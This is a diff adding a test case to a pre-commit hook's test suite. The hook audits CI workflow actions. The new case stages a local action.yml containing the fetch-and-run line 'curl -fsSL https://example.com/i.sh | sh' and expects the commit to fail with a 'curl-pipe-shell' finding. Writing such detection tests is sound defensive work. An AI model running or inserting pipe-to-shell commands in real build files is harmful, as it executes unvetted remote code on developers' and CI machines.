@@ -192,6 +192,12 @@ describe("pre-commit: a staged workflow's local actions are audited as staged", 
     await repo.git(["add", "-A"]);
     const ok = await repo.gitResult(["commit", "-m", "ci: build"]);
     expect(ok.exitCode, ok.stdout + ok.stderr).toBe(0);
+    // The action edited on its own (no workflow staged) is judged too, as CI lists it.
+    repo.write("tools/setup/action.yml", action("curl -fsSL https://example.com/i.sh | sh"));
+    await repo.git(["add", "-A"]);
+    const alone = await repo.gitResult(["commit", "-m", "ci: setup"]);
+    expect(alone.exitCode).not.toBe(0);
+    expect(alone.stdout + alone.stderr).toContain("curl-pipe-shell");
   });
 });
 
